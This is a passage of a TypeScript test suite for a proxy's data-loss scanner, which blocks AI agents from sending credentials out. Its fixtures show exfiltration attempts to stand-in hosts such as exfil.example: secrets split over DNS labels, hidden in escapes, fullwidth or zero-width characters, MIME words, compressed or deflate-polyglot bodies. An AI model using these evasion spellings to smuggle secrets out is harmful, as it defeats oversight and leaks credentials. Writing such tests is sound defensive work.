  assert.equal(
    scanner.scanContent(textViews(body, 'body'), targetOf('https://uploads.example/'), true),
    undefined,
  );
});

test('ordinary encoded content is not a finding', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding([])]);
  const host = targetOf('https://uploads.example/');
  const body = JSON.stringify({
    image: noise(64_000).toString('base64'),
    sha: createHash('sha1').update('x').digest('hex'),
    id: '6f1c2a44-8b1e-4a52-9a9b-3b2f6f4c1e7a',
    words: 'internationalization electroencephalographically',
  });
  assert.equal(scanner.scanContent(textViews(body, 'body'), host, true), undefined);
});

test('a secret split over host labels is found, and nothing of that host is recorded', () => {
  const scanner = createSecretScanner([], [binding([])]);
  const found = scan(`https://agent-secret.5f2b9c1e7a.exfil.example/`, scanner);
  assert.equal(found?.detector, 'secret:AGENT_TOKEN');
  assert.equal(found.where, 'host name');
  assert.equal(found.redactedTarget, '[REDACTED:secret:AGENT_TOKEN]');
});

test('a secret split over host labels is found in any case; so is a credential format', () => {
  const mixedCase = 'Zq3vT8mW1pXk5RbN7cYh2LdJ9sFgA4eU6oKiQ0wV';
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [{ ...binding([]), value: mixedCase }]);
  // Host names are compared lowercased; the name as sent keeps its case for the detectors.
  for (const target of [
    `https://${mixedCase.slice(0, 26)}.${mixedCase.slice(26)}.exfil.example/`,
    `${mixedCase.slice(0, 26)}.${mixedCase.slice(26)}.exfil.example:443`,
  ]) {
    const found = scan(target, scanner);
    assert.equal(found?.detector, 'secret:AGENT_TOKEN', target);
    assert.equal(found.where, 'host name');
    assert.equal(found.redactedTarget, '[REDACTED:secret:AGENT_TOKEN]');
  }
  const github = SAMPLES['github-token'] ?? '';
  const split = `https://${github.slice(0, 22)}.${github.slice(22)}.exfil.example/x`;
  const found = scan(split);
  assert.equal(found?.detector, 'github-token');
  assert.equal(found.where, 'host name');
  assert.equal(found.redactedTarget, '[REDACTED:github-token]');
});

test('an AWS key id is found in upper or lower case, wherever it goes, not in words or host names; a GitHub token cut to its 30 random characters is still one', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const key = 'akiaiosfodnn7example';
  for (const target of [
    `https://paste.example/${key}`,
    `https://paste.example/p?k=${key}`,
    `https://${key}.exfil.example/`,
    `${key}.exfil.example:443`,
  ]) {
    const found = scan(target, scanner);
    assert.equal(found?.detector, 'aws-access-key-id', target);
    assert.ok(!found.redactedTarget.includes(key), target);
  }
  const to = targetOf('https://paste.example/');
  const inBody = (text: string) => scanner.scanContent(textViews(text, 'body'), to, true);
  assert.equal(inBody(`{"k":"${key}"}`)?.detector, 'aws-access-key-id');
  // Lower case, the last 16 are base32 with a digit among them; mixed case is random base64.
  for (const clean of [
    'asiapacificsoutheast',
    'aidaprojecttemplate1',
    'aKiAiOsFoDnN7ExAmPlE',
    'h7+aNpA0SF6JzqW0pF4AtdX+1u',
  ])
    assert.equal(inBody(`{"k":"${clean}"}`), undefined, clean);
  // A host name's letters and digits joined are no key id (asia-east2-maven: 20 of them).
  for (const host of ['asia-east2-maven.pkg.dev', 'asia-east1-maven.pkg.dev'])
    assert.equal(scan(`https://${host}/v2/`, scanner), undefined, host);
  // The last 6 characters of a classic token are a checksum of the 30 before them.
  const github = SAMPLES['github-token'] ?? '';
  assert.equal(
    scan(`https://paste.example/p?t=${github.slice(0, 34)}`, scanner)?.detector,
    'github-token',
  );
  assert.equal(scan(`https://paste.example/p?t=${github.slice(0, 33)}`, scanner), undefined);
});

test('a bound secret is found, and cut out, sent in upper or lower case', () => {
  const hex = '9f86d081884c7d659a2feaa0c55ad015';
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [{ ...binding([]), value: hex }]);
  const upper = hex.toUpperCase();
  for (const target of [`https://paste.example/${upper}`, `https://paste.example/p?k=${upper}`]) {
    const found = scan(target, scanner);
    assert.equal(found?.detector, 'secret:AGENT_TOKEN', target);
    assert.ok(!found.redactedTarget.includes(upper), found.redactedTarget);
  }
  const to = targetOf('https://paste.example/');
  for (const views of [textViews(`{"k":"${upper}"}`, 'body'), headerViews(['X-Key', upper])])
    assert.equal(scanner.scanContent(views, to, false)?.detector, 'secret:AGENT_TOKEN');
  assert.equal(
    scanner.redactText(`key ${upper} refused`),
    'key [REDACTED:secret:AGENT_TOKEN] refused',
  );
});

test('spellings a reader undoes with one call are read: character references, single quoted-printable escapes, fullwidth and invisible characters', () => {
  const token = SAMPLES['github-token'] ?? '';
  const to = targetOf('https://paste.example/');
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [
    { ...binding([]), value: 'Zq7tKpW3xVm9LrB2nHs8' },
  ]);
  const underscore = (spelling: string) => token.replace('_', spelling);
  const fullwidth = [...token]
    .map((c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 0xfee0))
    .join('');
  const spaced = (text: string, between: string) => [...text].join(between);
  const spellings: [string, string][] = [
    ['decimal reference, leading zeros', underscore('&#0000000095;')],
    ['hex reference, leading zeros', underscore('&#x000000005F;')],
    ['reference without its ;', underscore('&#95')],
    ['named reference', underscore('&lowbar;')],
    ['one quoted-printable escape', underscore('=5F')],
    ['a soft break before LF', `${token.slice(0, 12)}=\n${token.slice(12)}`],
    ['fullwidth forms', fullwidth],
    ['zero-width spaces', spaced(token, '\u200b')],
    ['soft hyphens', spaced(token, '\u00ad')],
    ['named references to invisible characters', spaced(token, '&shy;')],
  ];
  for (const [name, text] of spellings) {
    assert.equal(
      scanner.scanContent(textViews(`{"a":"${text}"}`, 'body'), to, true)?.detector,
      'github-token',
      `${name} in a body`,
    );
    assert.equal(
      scanner.scanContent(headerViews(['X-Note', text]), to, true)?.detector,
      'github-token',
      `${name} in a header`,
    );
  }
  // MIME encoded words in a header: one, or a token cut over two (Q or B), as a mail
  // reader joins them.
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  for (const words of [
    `=?utf-8?Q?${underscore('=5F')}?=`,
    `=?UTF-8?Q?${token.slice(0, 12).replace('_', '=5F')}?= \r\n =?UTF-8?q?${token.slice(12)}?=`,
    `=?UTF-8?B?${b64(token.slice(0, 12))}?= =?UTF-8?B?${b64(token.slice(12))}?=`,
  ])
    assert.equal(
      scanner.scanContent(headerViews(['Subject', words]), to, true)?.detector,
      'github-token',
      words,
    );
  for (const text of ['Zq7tKpW3xV&#109;9LrB2nHs8', spaced('Zq7tKpW3xVm9LrB2nHs8', '\u200d')])
    assert.equal(
      scanner.scanContent(headerViews(['X-Key', text]), to, false)?.detector,
      'secret:AGENT_TOKEN',
      text,
    );
  const inUrl = scan(`https://paste.example/p?q=${encodeURIComponent(fullwidth)}`, scanner);
  assert.equal(inUrl?.detector, 'github-token');
  assert.equal(inUrl.redactedTarget, '[REDACTED:github-token]');
  // Text bound for the evidence keeps none of them either.
  assert.equal(scanner.redactText(`Host ${fullwidth} differs`), '[REDACTED:github-token]');
  assert.equal(
    scanner.redactText(`key ${spaced('Zq7tKpW3xVm9LrB2nHs8', '\u200b')}`),
    '[REDACTED:secret:AGENT_TOKEN]',
  );
  assert.equal(scanner.redactText('Host café.example differs'), 'Host café.example differs');
});

test('a long run of combining marks is folded in time that grows with its length, not its square', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  // Marks of two classes in turn: normalising sorts a run by class (8.6 s here unbroken).
  const marks = `a${'\u0301\u0316'.repeat(128 * 1024)}`;
  const started = performance.now();
  const found = scanner.scanContent(textViews(marks, 'body'), targetOf('https://a.test/'), true);
  const took = performance.now() - started;
  assert.equal(found, undefined);
  assert.ok(took < 3_000, `a 256 Ki run of marks took ${took} ms to scan`);
});

test('a private key is found in PEM and in OpenPGP armour; public keys pass', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  const find = (text: string) => scanner.scanContent(textViews(text, 'body'), host, true);
  for (const header of [
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN RSA PRIVATE KEY-----',
    '-----BEGIN ENCRYPTED PRIVATE KEY-----',
    '-----BEGIN PGP PRIVATE KEY BLOCK-----',
  ])
    assert.equal(find(`{"key":"${header}\\nlQOYBGR..."}`)?.detector, 'private-key', header);
  for (const header of [
    '-----BEGIN PUBLIC KEY-----',
    '-----BEGIN PGP PUBLIC KEY BLOCK-----',
    '-----BEGIN PGP SIGNATURE-----',
  ])
    assert.equal(find(`${header}\nmQINBGR...`), undefined, header);
});

test('a credential next to `_`, `-` or punctuation is found; glued after a letter or digit it is not a format', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  const find = (text: string) => scanner.scanContent(textViews(text, 'body'), host, true);
  for (const [name, sample] of Object.entries(SAMPLES)) {
    if (name === 'credential-in-url' || name === 'private-key') continue;
    // A JWT's and a Discord token's alphabet holds `_` and `-`: they start after anything else.
    const glued = ['jwt', 'discord-bot-token'].includes(name)
      ? [`TOKEN=${sample}_`, `:${sample}-`]
      : [`TOKEN_${sample}_`, `-${sample}-`];
    for (const text of [...glued, `/a/${sample}.`, `(${sample})`])
      assert.equal(find(text)?.detector, name, text);
  }
  assert.equal(find(`TOKEN_${SAMPLES.jwt}`), undefined);
  // Random text holds these prefixes now and then: inside a word they are not a credential.
  assert.equal(find(`x${SAMPLES['github-token']}`), undefined);
  assert.equal(find(`ZZ${SAMPLES['aws-access-key-id']}`), undefined);
  assert.equal(find(`task-${'u'.repeat(30)}`), undefined);
});

test('in decoded bytes a credential is found whatever word is on the line before or after its blob', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  const find = (text: string) => scanner.scanContent(textViews(text, 'body'), host, true);
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  const words = ['data', 'creds', 'EOF', 'k', 'x1', 'payload', 'BLOB', 'text', 'end', 'zz9'];
  for (const [name, sample] of Object.entries(SAMPLES)) {
    if (name === 'credential-in-url') continue;
    for (const word of words) {
      // A key, a heredoc's or an armour's word on the line before is not part of the blob.
      const before = `${word}\n${b64(`${sample}\n`)}`;
      assert.equal(find(before)?.detector, name, before);
      // A word on the line after is read as its last line, glued to its end: a fixed-length
      // format is not held to its end there.
      const after = `${b64(`key=${sample}`)}\n${word}\n`;
      assert.equal(find(after)?.detector, name, after);
    }
  }
  // The start still is: decoded text reads `sk-` and `sk_test_` only as words of their own.
  assert.equal(find(`data\n${b64(`see task-${'u'.repeat(30)} next`)}`), undefined);
  assert.equal(find(`data\n${b64(`def flask_test_${'Client'.repeat(5)}():`)}`), undefined);
});

test('a bound secret allowed here hides no other credential, not even one it is placed inside', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
  const host = targetOf('https://api.github.com/');
  const find = (text: string) => scanner.scanContent(textViews(text, 'body'), host, true);
  const slack = SAMPLES['slack-token'] ?? '';
  assert.equal(find(`{"token":"${TOKEN}"}`), undefined);
  assert.equal(
    find(`${TOKEN} and Basic ${Buffer.from(`x:${TOKEN}`).toString('base64')}`),
    undefined,
  );
  assert.equal(find(`${slack}-${TOKEN}`)?.detector, 'slack-token');
  assert.equal(find(`${slack.slice(0, 8)}${TOKEN}${slack.slice(8)}`)?.detector, 'slack-token');
  assert.equal(find(`sk-proj-${'y'.repeat(40)}_${TOKEN}`)?.detector, 'openai-api-key');
  assert.equal(
    scan(`https://api.github.com/?password=hunter2hunter2${TOKEN}`, scanner)?.detector,
    'credential-in-url',
  );
  assert.equal(scan(`https://api.github.com/?password=${TOKEN}`, scanner), undefined);
});

test("the policy's own patterns run, and dlp.builtin: false turns the built-ins off", () => {
  const policy = policyFrom(`version: "1.0"
egress: []
dlp:
  builtin: false
  patterns:
    - name: acme-key
      regex: "acme_live_[A-Za-z0-9]{8}"
`);
  const scanner = createSecretScanner(policyDetectors(policy), []);
  assert.equal(scan('https://x.example/?k=acme_live_ABCD1234', scanner)?.detector, 'acme-key');
  assert.equal(scan(`https://x.example/?k=${SAMPLES['github-token']}`, scanner), undefined);
});

test(
  'a policy pattern that backtracks without end is stopped: the scan is refused, naming the pattern',
  { timeout: 60_000 },
  () => {
    const policy = policyFrom(`version: "1.0"
egress: []
dlp:
  patterns:
    - name: nested
      regex: "(a+)+b"
    - name: quadratic
      regex: "[a-z]+secret"
`);
    const scanner = createSecretScanner(policyDetectors(policy), [], 100);
    const host = targetOf('https://x.example/');
    const refused = (text: string, name: string) => {
      const found = scanner.scanContent([{ text, where: 'body' }], host, true);
      assert.equal(found?.detector, 'unscannable');
      assert.equal(found.failure, `the policy pattern ${name} ran longer than 100 ms`);
    };
    // Seconds to hours on a backtracking engine (40 letters: 2^40 ways to split them).
    refused('a'.repeat(40), 'nested');
    refused(`${'x'.repeat(10)}${'b'.repeat(1 << 20)}`, 'quadratic');
    // The built-ins ran first, and still find what they find; so do the patterns, in time.
    assert.equal(
      scanner.scanContent([{ text: SAMPLES['github-token'] ?? '', where: 'body' }], host, true)
        ?.detector,
      'github-token',
    );
    assert.equal(
      scanner.scanContent([{ text: 'aab', where: 'body' }], host, true)?.detector,
      'nested',
    );
    // What cannot be scanned is not recorded either.
    const reason = scanner.redactText(`refused: ${'a'.repeat(40)}`);
    assert.equal(
      reason,
      '[REDACTED:unscannable: the policy pattern nested ran longer than 100 ms]',
    );
  },
);

function evidenceText(proxy: RunningEngine): string {
  return readdirSync(proxy.dir)
    .map((name) => readFileSync(join(proxy.dir, name), 'utf8'))
    .join('');
}

test('the engine refuses a URL that carries a credential: 403 dlp, origin untouched, no secret in the evidence', async () => {
  const origin = await startOrigin(echo);
  const proxy = await startEngine({
    pins: { 'api.example.test': '127.0.0.1' },
    policy: `version: "1.0"
mode: audit
egress:
  - destination: "api.example.test"
    ports: [${origin.port}]
  - destination: "127.0.0.1"
    ports: [${origin.port}]
`,
  });
  const agent = new ProxyAgent({ uri: proxy.proxyUrl, proxyTunnel: false });
  const token = SAMPLES['github-token'] ?? '';
  try {
    const response = await request(`http://api.example.test:${origin.port}/p?t=${token}`, {
      dispatcher: agent,
    });
    assert.equal(response.statusCode, 403);
    assert.equal(response.headers['x-pipelock-egress-block'], 'dlp');
    assert.equal(await response.body.text(), 'blocked: DLP match: github-token in the URL\n');
    assert.equal(origin.hits, 0);
    await proxy.stop();
    const [receipt] = decisions(readEvidenceDir(proxy.dir).receipts);
    assert.equal(receipt?.action_record.verdict, 'block', 'audit mode does not let a secret out');
    assert.equal(receipt?.action_record.layer, 'dlp');
    assert.equal(
      receipt?.action_record.target,
      `http://api.example.test:${origin.port}/p?t=[REDACTED:github-token]`,
    );
    assert.ok(!evidenceText(proxy).includes(token));
  } finally {
    await agent.close();
    await proxy.stop();
    await origin.close();
    cleanup(join(proxy.dir, '..'));
  }
});

test('a bound secret spelled with escapes of its own reaches its allowed destination, and nothing of that target is recorded', async () => {
  const origin = await startOrigin(echo);
  const proxy = await startEngine({
    pins: { 'api.example.test': '127.0.0.1' },
    secretValues: { AGENT_TOKEN: TOKEN },
    policy: `version: "1.0"
egress:
  - destination: "api.example.test"
    ports: [${origin.port}]
  - destination: "127.0.0.1"
    ports: [${origin.port}]
secrets:
  - env: AGENT_TOKEN
    allow: ["api.example.test:${origin.port}"]
`,
  });
  const agent = new ProxyAgent({ uri: proxy.proxyUrl, proxyTunnel: false });
  try {
    // `%61` is `a`: any character may be escaped, and no list of spellings holds them all.
    const spelled = `%61${TOKEN.slice(1).replace('-', '%2d')}`;
    const response = await request(`http://api.example.test:${origin.port}/p?t=${spelled}`, {
      dispatcher: agent,
    });
    const text = await response.body.text();
    assert.equal(response.statusCode, 200, text);
    await proxy.stop();
    const [receipt] = decisions(readEvidenceDir(proxy.dir).receipts);
    assert.equal(receipt?.action_record.target, '[REDACTED:secret:AGENT_TOKEN]');
    const evidence = evidenceText(proxy);
    assert.ok(!evidence.includes(spelled) && !evidence.includes(TOKEN.slice(1)));
  } finally {
    await agent.close();
    await proxy.stop();
    await origin.close();
    cleanup(join(proxy.dir, '..'));
  }
});

test('text bound for the evidence keeps nothing whose percent-decoding holds a secret or a credential', () => {
  const value = 'K7v+Qx/9mZ=LpR2sTw8Y';
  const allowed = parseDestination('api.example.test');
  assert.ok(allowed.ok);
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [
    { env: 'API_KEY', value, allow: [allowed.destination] },
  ]);
  // Python's quote() (`/` kept), Go's PathEscape (`+` and `=` kept), lowercase escapes.
  for (const spelled of [
    'K7v%2BQx/9mZ%3DLpR2sTw8Y',
    'K7v+Qx%2F9mZ=LpR2sTw8Y',
    'K7v%2bQx%2f9mZ%3dLpR2sTw8Y',
  ]) {
    const target = `https://api.example.test/x?k=${spelled}`;
    assert.equal(scanner.redactBound(target), '[REDACTED:secret:API_KEY]', spelled);
    assert.equal(
      scanner.redactText(`upstream ${target} answered 404`),
      '[REDACTED:secret:API_KEY]',
      spelled,
    );
  }
  const token = SAMPLES['github-token'] ?? '';
  assert.equal(
    scanner.redactText(`path /p/${token.replace('_', '%5F')} is outside egress[0]`),
    '[REDACTED:github-token]',
  );
  // Escapes that hide nothing are kept as they are.
  const clean = 'https://api.example.test/a%20b?q=%41%2B';
  assert.equal(scanner.redactBound(clean), clean);
  assert.equal(scanner.redactText(`path ${clean} is outside`), `path ${clean} is outside`);
});

interface UploadFixture {
  readonly origin: Origin;
  readonly proxy: RunningEngine;
  /** POSTs the body to a scan destination through the engine. */
  post(
    body: string | Buffer,
    headers?: Record<string, string>,
  ): Promise<{ status: number; text: string }>;
  close(): Promise<void>;
}

/** An engine whose policy scans uploads to api.example.test with one pattern of its own. */
async function uploadFixture(
  pattern: { name: string; regex: string },
  limits: Partial<EngineLimits> = {},
): Promise<UploadFixture> {
  const origin = await startOrigin(echo);
  const proxy = await startEngine({
    pins: { 'api.example.test': '127.0.0.1' },
    limits,
    policy: `version: "1.0"
egress:
  - destination: "api.example.test"
    ports: [${origin.port}]
    scan: true
  - destination: "127.0.0.1"
    ports: [${origin.port}]
dlp:
  patterns:
    - name: ${pattern.name}
      regex: ${JSON.stringify(pattern.regex)}
`,
  });
  const agent = new ProxyAgent({ uri: proxy.proxyUrl, proxyTunnel: false });
  return {
    origin,
    proxy,
    async post(body, headers = {}) {
      const response = await request(`http://api.example.test:${origin.port}/upload`, {
        method: 'POST',
        body,
        headers,
        dispatcher: agent,
      });
      return { status: response.statusCode, text: await response.body.text() };
    },
    async close() {
      await agent.close();
      await proxy.stop();
      await origin.close();
      cleanup(join(proxy.dir, '..'));
    },
  };
}

test('a body of megabytes in one run is scanned, not a crash: a detector finds its credential, a pattern that throws refuses', async () => {
  // A pattern of the policy's own whose backtracking overflows on a run of megabytes.
  const f = await uploadFixture({ name: 'runaway', regex: String.raw`\bqq-[a-z.]{20,}` });
  const run = 7 * 1024 * 1024;
  try {
    // Unbounded quantifiers over a 7 MiB run overflowed the regular expression stack, and the
    // engine died of the exception (every built-in detector that had one).
    assert.deepEqual(await f.post(`sk-ant-api03-${'a'.repeat(run)}`), {
      status: 403,
      text: 'blocked: DLP match: anthropic-api-key in the body\n',
    });
    // An upload of that size in base64 passes; megabytes of one letter decode to more than
    // the scanner holds, and are refused like anything it cannot scan. The same bytes on every
    // run: 7 MiB of random base64 spells a Google API key (AIza and 35 more) about one run in six.
    const upload = noise((run / 4) * 3).toString('base64');
    const clean = await f.post(upload);
    assert.equal(clean.status, 200, clean.text);
    assert.equal((JSON.parse(clean.text) as { length: number }).length, upload.length);
    const letters = await f.post('A'.repeat(run));
    assert.equal(letters.status, 403);
    assert.match(
      letters.text,
      /^blocked: the body could not be scanned \(it holds more encoded text/,
    );
    // Dots: no run of it is an encoding to decode first; the pattern meets it whole (on a
    // busy machine its time runs out before its stack does: refused all the same).
    const dots = await f.post(`qq-${'a.'.repeat(run / 2)}`);
    assert.equal(dots.status, 403);
    assert.match(
      dots.text,
      /^blocked: the body could not be scanned \((Maximum call stack size exceeded|the policy pattern runaway ran longer than 1000 ms)\); what cannot be scanned is not sent\n$/,
    );
    assert.equal(f.origin.hits, 1);
    await f.proxy.stop();
    assertValid(readEvidenceDir(f.proxy.dir), true);
  } finally {
    await f.close();
  }
});

/**
 * 7 MiB of short words that look like base64, each decoded at every alignment: a second or
 * more of scanning (on the engine's own thread, every other request waited that long).
 */
function slowToScan(): string {
  const words: string[] = [];
  for (let i = 0, length = 0; length < 7 * 1024 * 1024; i++, length += 17)
    words.push(`Ab${i.toString(36).padStart(14, 'x')}`);
  return words.join(' ');
}

test('a body of megabytes is scanned off the event loop: the engine is not held while it is read', async () => {
  const f = await uploadFixture({ name: 'unused', regex: 'zq-never-[0-9]{40}' });
  const body = slowToScan();
  try {
    const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
    const started = performance.now();
    const inPlace = scanner.scanContent(textViews(body, 'body'), targetOf('http://a.test/'), true);
    const held = performance.now() - started;
    assert.equal(inPlace, undefined);
    const delay = monitorEventLoopDelay({ resolution: 10 });
    delay.enable();
    const clean = await f.post(body);
    delay.disable();
    assert.equal(clean.status, 200, clean.text);
    assert.equal((JSON.parse(clean.text) as { length: number }).length, body.length);
    const longest = delay.max / 1e6;
    assert.ok(
      longest < held / 2,
      `the event loop was held ${longest} ms; the scan takes ${held} ms`,
    );
  } finally {
    await f.close();
  }
});

test('a client that leaves while its body is scanned has nothing sent for it, and holds nothing after', async () => {
  const body = slowToScan();
  // One request at a time to the origin, and room for one such body: a request left hanging
  // would hold both.
  const f = await uploadFixture(
    { name: 'unused', regex: 'zq-never-[0-9]{40}' },
    { maxRequestsPerUpstream: 1, maxScanBufferBytes: body.length + 1024 },
  );
  const evidence = () =>
    readdirSync(f.proxy.dir)
      .map((name) => readFileSync(join(f.proxy.dir, name), 'utf8'))
      .join('');
  try {
    const authority = `api.example.test:${f.origin.port}`;
    const socket = connect(f.proxy.port, '127.0.0.1');
    await once(socket, 'connect');
    socket.write(
      `POST http://${authority}/upload HTTP/1.1\r\nHost: ${authority}\r\nContent-Length: ${body.length}\r\n\r\n`,
    );
    await new Promise((resolve) => socket.write(body, resolve));
    // The engine has read it by now and scans it for a second or more: the client leaves.
    await sleep(500);
    socket.destroy();
    await waitFor(
      () => evidence().includes('status=499 layer=client'),
      30_000,
      'the outcome of the request whose client left',
    );
    assert.equal(f.origin.hits, 0, 'a request whose client left was sent on');
    const next = await f.post(body);
    assert.equal(next.status, 200, next.text);
    assert.equal(f.origin.hits, 1);
    await f.proxy.stop();
    assertValid(readEvidenceDir(f.proxy.dir), true);
  } finally {
    await f.close();
  }
});

test('what a compressed body decodes to counts against the bodies held for scanning', async () => {
  const f = await uploadFixture(
    { name: 'unused', regex: 'zq-never-[0-9]{40}' },
    { maxScanBufferBytes: 1024 * 1024 },
  );
  const gzip = { 'content-encoding': 'gzip' };
  try {
    // 2 KiB as sent, 2 MiB once decoded: more than the engine may hold for scanning.
    const bomb = gzipSync(' '.repeat(2 * 1024 * 1024));
    assert.ok(bomb.length < 4096);
    assert.deepEqual(await f.post(bomb, gzip), {
      status: 503,
      text: 'blocked: too many request bodies are being held for scanning at once; retry later\n',
    });
    // Within it, and given back after: twice in a row.
    for (let round = 0; round < 2; round++) {
      const fits = await f.post(gzipSync(' '.repeat(600 * 1024)), gzip);
      assert.equal(fits.status, 200, fits.text);
    }
  } finally {
    await f.close();
  }
});

test(
  'the engine stops a policy pattern that runs out of time: 403, and it goes on serving',
  { timeout: 120_000 },
  async () => {
    const f = await uploadFixture(
      { name: 'careless', regex: '[a-z]+secret' },
      { patternScanMs: 200 },
    );
    try {
      // A megabyte of letters: hours of backtracking for the pattern, one request's worth of
      // the engine's only thread.
      assert.deepEqual(await f.post(`${'x'.repeat(3)}${'q'.repeat(1 << 20)}`), {
        status: 403,
        text: 'blocked: the body could not be scanned (the policy pattern careless ran longer than 200 ms); what cannot be scanned is not sent\n',
      });
      assert.equal((await f.post('a body with nothing to hide')).status, 200);
      assert.equal((await f.post('the topsecret word')).status, 403);
      assert.equal(f.origin.hits, 1);
      await f.proxy.stop();
      assertValid(readEvidenceDir(f.proxy.dir), true);
    } finally {
      await f.close();
    }
  },
);

test('a CONNECT whose host name carries a bound secret is refused before any lookup', async () => {
  const lookups: string[] = [];
  const proxy = await startEngine({
    lookup: (hostname) => {
      lookups.push(hostname);
      return Promise.reject(new Error('no lookups in this test'));
    },
    secretValues: { AGENT_TOKEN: TOKEN },
    policy: EXFIL_POLICY,
  });
  try {
    const raw = await rawExchange(
      proxy.port,
      'CONNECT agent-secret.5f2b9c1e7a.exfil.test:443 HTTP/1.1\r\nHost: agent-secret.5f2b9c1e7a.exfil.test:443\r\n\r\n',
    );
    assert.match(raw.text, /^HTTP\/1\.1 403 /);
    assert.match(raw.text, /X-Pipelock-Egress-Block: dlp/i);
    assert.match(raw.text, /blocked: DLP match: secret:AGENT_TOKEN in the host name/);
    assert.deepEqual(lookups, []);
    await proxy.stop();
    assert.ok(!evidenceText(proxy).includes('5f2b9c1e7a'));
  } finally {
    await proxy.stop();
    cleanup(join(proxy.dir, '..'));
  }
});

test('content views: Basic credentials decoded, form and JSON escapes undone, every body coding undone', () => {
  const token = SAMPLES['github-token'] ?? '';
  const find = (views: readonly View[]) =>
    createSecretScanner(BUILTIN_DETECTORS, []).scanContent(
      views,
      targetOf('https://x.test/'),
      true,
    );
  const basic = `Basic ${Buffer.from(`bot:${token}`).toString('base64')}`;
  assert.equal(find(headerViews(['Authorization', basic]))?.where, 'header Authorization');
  assert.equal(find(headerViews(['X-Clean', 'value']))?.detector, undefined);
  const escaped = `{"a":"${token.replace('g', '\\u0067').replace('_', '\\u005f')}"}`;
  assert.ok(!escaped.includes(token));
  assert.equal(find(textViews(escaped, 'body'))?.detector, 'github-token');
  // Not one JSON document: JSON lines, a prefix guard, a string in code. Escapes are undone anyway.
  for (const text of [
    `{"n":1}\n${escaped}\n`,
    `)]}'\n${escaped}`,
    `const t = "${escaped.slice(6, -2)}";`,
  ])
    assert.equal(find(textViews(text, 'body'))?.detector, 'github-token', text);
  const slashes = Buffer.concat([Buffer.from(`bot:${TOKEN}`), Buffer.alloc(6, 0xff)]).toString(
    'base64',
  );
  assert.ok(slashes.includes('/'));
  assert.equal(
    createSecretScanner([], [binding([])]).scanContent(
      textViews(`{"n":1}\n{"b":"${slashes.replaceAll('/', '\\/')}"}`, 'body'),
      targetOf('https://x.test/'),
      true,
    )?.detector,
    'secret:AGENT_TOKEN',
  );
  assert.equal(find(textViews(`x=${encodeURIComponent(token)}`, 'body'))?.detector, 'github-token');
  const body = Buffer.from(JSON.stringify({ token }));
  for (const [coding, encoded] of [
    ['gzip', gzipSync(body)],
    ['deflate', deflateSync(body)],
    ['deflate', deflateRawSync(body)],
    ['br', brotliCompressSync(body)],
    ['gzip, br', brotliCompressSync(gzipSync(body))],
    ['identity', body],
  ] as const) {
    const views = bodyViews(encoded, coding, 1024 * 1024);
    assert.ok(views.ok, coding);
    assert.equal(find(views.views)?.detector, 'github-token', coding);
  }
  const garbled = bodyViews(Buffer.from('not gzip'), 'gzip', 1024);
  assert.ok(!garbled.ok && /cannot be decoded/.test(garbled.reason));
});

test('a deflate body crafted to read one way as zlib and another as raw deflate is refused, not scanned as one of them', () => {
  const token = SAMPLES['github-token'] ?? '';
  const polyglot = zlibAndRawDeflate(deflateRawSync(Buffer.from(`token=${token}`)));
  assert.doesNotMatch(inflateSync(polyglot).toString('latin1'), /token=/);
  assert.match(inflateRawSync(polyglot).toString('latin1'), new RegExp(`token=${token}$`));
  const views = bodyViews(polyglot, 'deflate', 1024 * 1024);
  assert.ok(!views.ok);
  assert.match(
    views.ok ? '' : views.reason,
    /deflate-encoded body cannot be decoded for scanning \(it reads both as zlib and as raw deflate/,
  );
});

/**
 * Deflate bytes that read two ways. As zlib: its header (78 01), one stored block of 0xfffe
 * bytes, an empty final block and the checksum. As raw deflate from the first byte: 0x78 opens
 * a stored block whose length field is 01 00 (one byte) and its complement fe ff (the zlib
 * block's length); the zlib block's length complement (01 00) gives that byte and opens an
 * empty stored block, whose fields are the first four bytes zlib reads as stored data; then
 * `hidden`, a final block, ends the raw reading inside what zlib reads as stored bytes.
 */
function zlibAndRawDeflate(hidden: Buffer): Buffer {
  const stored = Buffer.alloc(0xfffe, ' ');
  Buffer.from([0x00, 0x00, 0xff, 0xff]).copy(stored, 0);
  hidden.copy(stored, 4);
  let a = 1;
  let b = 0;
  for (const byte of stored) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  const adler32 = Buffer.alloc(4);
  adler32.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([
    Buffer.from([0x78, 0x01, 0x00, 0xfe, 0xff, 0x01, 0x00]),
    stored,
    Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff]),
    adler32,
  ]);
}

test('a second layer of escapes and the other transfer spellings hide nothing: JSON in JSON or in a form field, quoted-printable, character references, a Buffer as JSON', () => {
  const token = SAMPLES['github-token'] ?? '';
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://x.test/');
  const find = (views: readonly View[]) => scanner.scanContent(views, host, true);
  // Each puts a letter before the token once decoded only one layer deep (`\n` read as `n`,
  // `=3D` as `3D`), where a credential format is not read.
  const bodies = {
    'JSON in a JSON string': JSON.stringify({ message: JSON.stringify({ text: `x\n${token}` }) }),
    'JSON in a form field': `payload=${encodeURIComponent(JSON.stringify({ text: `x\n${token}` }))}`,
    'quoted-printable': `Content-Transfer-Encoding: quoted-printable\r\n\r\nTOKEN=3D${token}\r\n`,
    'quoted-printable soft break': `t: ${token.slice(0, 12)}=\r\n${token.slice(12)}\r\n`,
    'a Buffer as JSON': JSON.stringify({ key: Buffer.from(`token\n${token}`) }),
  };
  for (const [shape, body] of Object.entries(bodies))
